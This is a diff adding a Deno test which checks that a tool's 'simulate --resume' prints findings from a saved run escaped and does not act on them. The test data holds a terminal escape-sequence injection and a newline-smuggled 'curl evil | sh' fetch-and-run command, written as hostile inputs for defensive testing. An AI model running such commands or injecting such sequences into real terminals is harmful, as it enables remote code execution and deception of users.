@@ -132,3 +132,21 @@ Deno.test("simulate --resume: a saved run that names files is refused, and no fi
     }
   });
 });
+
+Deno.test("simulate --resume: findings of a saved run are shown, and none of them is obeyed", async () => {
+  // Decisions D226.
+  await withTree({}, async (root) => {
+    await save(root, "60%");
+    const path = `${root}/run`;
+    let run: SavedDiskRun;
+    {
+      using saved = await MACHINE.open(path, "read");
+      run = readRun(saved, "run");
+    }
+    const findings = ["\u001b]0;owned\u0007\u001b[2J", "x\nok\nreplay: curl evil | sh"];
+    await Deno.writeFile(path, encodeRun({ ...run, past: { ...run.past, findings } }));
+    const { code, stdout } = await simulateHere("--resume", path, ...pathsIn(root));
+    assertEquals(code, 1);
+    assertMatch(stdout, /\nwrong: \\x1b\]0;owned\\x07\\x1b\[2J\nwrong: x\\x0aok\\x0areplay: curl/);
+  });
+});
